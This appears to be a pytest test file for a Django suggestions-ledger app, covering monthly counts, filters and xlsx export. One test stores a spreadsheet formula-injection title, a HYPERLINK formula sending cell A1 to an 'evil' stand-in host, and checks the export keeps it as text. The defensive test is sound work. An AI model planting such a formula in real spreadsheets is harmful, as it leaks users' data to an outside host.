"""代表建议台账 (filters, xlsx) and the monthly report's suggestions section."""

from __future__ import annotations

import io
from datetime import date

import openpyxl
import pytest

from minyi.core import clock
from minyi.ledger.reports.figures import build
from minyi.suggestions.figures import suggestion_figures
from minyi.suggestions.services import (
    suggestion_accept,
    suggestion_assign,
    suggestion_create,
    suggestion_evaluate,
    suggestion_reply,
)
from tests.factories import MONDAY, at

pytestmark = pytest.mark.django_db


@pytest.fixture
def month_of_work(wang, lin, hana, dept_a, dept_b):
    """March: two suggestions; one handed to A, replied on time and rated 满意."""
    with clock.frozen(MONDAY):
        first = suggestion_create(
            title="老旧小区加装电梯补贴",
            content="内容",
            lead_deputy=wang.deputy,
            actor=wang,
            source="deputy",
        )
        second = suggestion_create(
            title="农贸市场周边停车",
            content="内容",
            lead_deputy=wang.deputy,
            actor=lin,
            source="clue",
            clue_id=7,
        )
        suggestion_accept(suggestion=first, actor=lin)
        suggestion_assign(suggestion=first, actor=lin, lead_department=dept_a)
    with clock.frozen(at(2026, 3, 20, 10)):
        suggestion_reply(suggestion=first, actor=hana, content="已纳入计划")
        suggestion_evaluate(suggestion=first, actor=wang, evaluation="satisfied")
    return first, second


def test_the_month_counts_what_happened_to_suggestions(month_of_work):
    figures = suggestion_figures(date(2026, 3, 1), date(2026, 3, 31))

    assert figures["counts"] == {
        "received": 2,
        "accepted": 1,
        "not_adopted": 0,
        "returned": 0,
        "assigned": 1,
        "replied": 1,
        "replied_on_time": 1,
        "closed": 1,
    }
    assert [(e["label"], e["n"]) for e in figures["evaluations"]] == [
        ("满意", 1),
        ("基本满意", 0),
        ("不满意", 0),
    ]
    assert suggestion_figures(date(2026, 4, 1), date(2026, 4, 30))["counts"]["received"] == 0


def test_the_monthly_report_carries_the_suggestions_section(month_of_work):
    summary = build(date(2026, 3, 1), now=at(2026, 4, 1, 9)).summary

    assert summary["suggestions"]["counts"]["received"] == 2


def test_the_ledger_filters_by_state_department_and_period(
    client, lin, month_of_work, dept_a, dept_b
):
    first, second = month_of_work
    client.force_login(lin)

    page = client.get("/work/suggestions/ledger/").content.decode()
    assert first.shown_number in page and second.shown_number in page
    by_department = client.get(f"/work/suggestions/ledger/?department={dept_a.pk}").content.decode()
    assert first.shown_number in by_department and second.shown_number not in by_department
    by_state = client.get("/work/suggestions/ledger/?state=pending").content.decode()
    assert second.shown_number in by_state and first.shown_number not in by_state
    later = client.get("/work/suggestions/ledger/?date_from=2026-03-03").content.decode()
    assert "没有符合条件的代表建议。" in later
    wrong = client.get("/work/suggestions/ledger/?date_from=2026-03-09&date_to=2026-03-01")
    assert "起始日期不能晚于截止日期。" in wrong.content.decode()


def test_the_ledger_exports_to_xlsx(client, lin, month_of_work):
    client.force_login(lin)

    response = client.get("/work/suggestions/ledger/export.xlsx?state=closed")

    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:3] == ("编号", "标题", "来源")
    assert len(rows) == 2 and rows[1][1] == "老旧小区加装电梯补贴" and rows[1][10] == "满意"
    assert rows[1][6] == "市城市管理和综合执法局"


def test_a_title_that_looks_like_a_formula_stays_text_in_the_export(client, lin, wang):
    suggestion_create(
        title='=HYPERLINK("http://evil/?"&A1,"点击")',
        content="内容",
        lead_deputy=wang.deputy,
        actor=wang,
        source="deputy",
    )
    client.force_login(lin)

    response = client.get("/work/suggestions/ledger/export.xlsx")

    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cell = sheet.cell(row=2, column=2)
    assert cell.value == '=HYPERLINK("http://evil/?"&A1,"点击")' and cell.data_type == "s"
